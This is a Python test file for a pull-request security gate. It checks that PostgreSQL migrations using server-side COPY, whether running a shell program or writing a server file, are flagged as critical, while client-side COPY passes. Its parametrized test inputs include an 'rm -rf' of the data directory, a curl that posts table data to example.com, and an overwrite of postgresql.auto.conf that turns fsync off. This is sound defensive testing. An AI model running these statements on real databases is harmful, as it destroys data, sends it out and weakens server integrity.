"""A migration must not run a shell command or write a file on the database server unjudged.

Before: `COPY t FROM PROGRAM 'rm -rf ...'` and `COPY t TO '/var/lib/postgresql/.../postgresql.auto.conf'`
were read as data statements without a finding, so a PR adding one passed at the default policy.
Now both are `migrations/dynamic-sql` (what the gate cannot judge fails closed: critical when added).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from sec_support import PrRepo, assert_no_defect, check

BASE = {"db/migrations/V1__init.sql": "CREATE TABLE users (id int primary key, email text);\n"}


@pytest.mark.parametrize("sql", [
    "COPY users FROM PROGRAM 'rm -rf /var/lib/postgresql/data';",
    "copy users to program 'curl -d @- https://example.com';",
    "COPY (SELECT 'fsync = off') TO '/var/lib/postgresql/data/postgresql.auto.conf';",
    "COPY users (id) TO E'/tmp/dump';",
])
def test_server_side_copy_fails_closed(tmp_path: Path, sql: str) -> None:
    repo = PrRepo.make(tmp_path / "ws", BASE, {"db/migrations/V2__copy.sql": sql + "\n"})
    done = check(repo.path, "--base", repo.base, "--gates", "migrations", "--replay", "off", home=tmp_path)
    assert_no_defect(done)
    found = done.findings("migrations/dynamic-sql")
    assert [f["severity"] for f in found] == ["critical"], done.findings()
    assert "outside SQL" in found[0]["message"]
    assert done.code == 1


@pytest.mark.parametrize("sql", ["COPY users FROM STDIN;\n1\tx\n\\.\n", "COPY users TO STDOUT;",
                                 "COPY users FROM '/srv/seed/users.csv' WITH (FORMAT csv);"])
def test_client_copy_and_loading_a_server_file_are_data(tmp_path: Path, sql: str) -> None:
    repo = PrRepo.make(tmp_path / "ws", BASE, {"db/migrations/V2__copy.sql": sql + "\n"})
    done = check(repo.path, "--base", repo.base, "--gates", "migrations", "--replay", "off", home=tmp_path)
    assert_no_defect(done)
    assert not done.findings("migrations/dynamic-sql"), done.findings()
